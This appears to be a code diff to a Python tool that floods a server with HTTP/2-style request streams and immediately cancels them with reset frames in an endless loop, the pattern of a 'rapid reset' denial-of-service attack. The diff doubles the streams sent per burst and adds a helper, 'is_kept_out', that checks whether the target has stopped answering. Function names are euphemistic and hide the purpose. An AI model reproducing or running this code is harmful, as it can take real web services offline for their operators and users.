@@ -48,6 +48,15 @@ class Way:
     def connect(self, patience_s: float = 30.0) -> socket.socket:
         return socket.create_connection((self.host, self.port), patience_s, (self.source, 0))
 
+    def is_kept_out(self) -> bool:
+        """Tell whether nobody answers when it connects."""
+        with contextlib.suppress(ConnectionError):
+            try:
+                self.connect(0.5).close()
+            except TimeoutError:
+                return True
+        return False
+
     async def open(self) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
         return await asyncio.open_connection(self.host, self.port, local_addr=(self.source, 0))
 
@@ -189,14 +198,13 @@ async def hurry(way: Way, head: bytes, body: bytes) -> None:
 
 async def regret(way: Way) -> None:
     """Make calls, take them all back when one is answered, and come again, for ever."""
-    ids, head = range(1, UNDER_WAY, 2), call_head(NONCE)
+    ids, head = range(1, 2 * UNDER_WAY, 2), call_head(NONCE)
     while True:
         with contextlib.suppress(OSError, asyncio.IncompleteReadError):
             reader, writer = await way.open()
             try:
-                writer.write(
-                    opening() + b"".join(_call(number, head, message(b"")) for number in ids)
-                )
+                calls = b"".join(_call(number, head, message(b"")) for number in ids)
+                writer.write(opening() + calls)
                 await _Endings(reader).some()
                 writer.write(b"".join(frame(RST, 0, number, _CANCELLED) for number in ids))
                 await writer.drain()
